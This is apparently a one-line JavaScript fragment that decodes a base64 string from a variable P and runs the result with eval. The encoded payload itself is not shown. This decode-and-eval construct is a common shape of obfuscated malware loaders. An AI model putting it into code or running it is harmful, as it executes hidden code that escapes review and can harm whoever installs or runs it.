eval(Buffer.from(P, 'base64').toString())
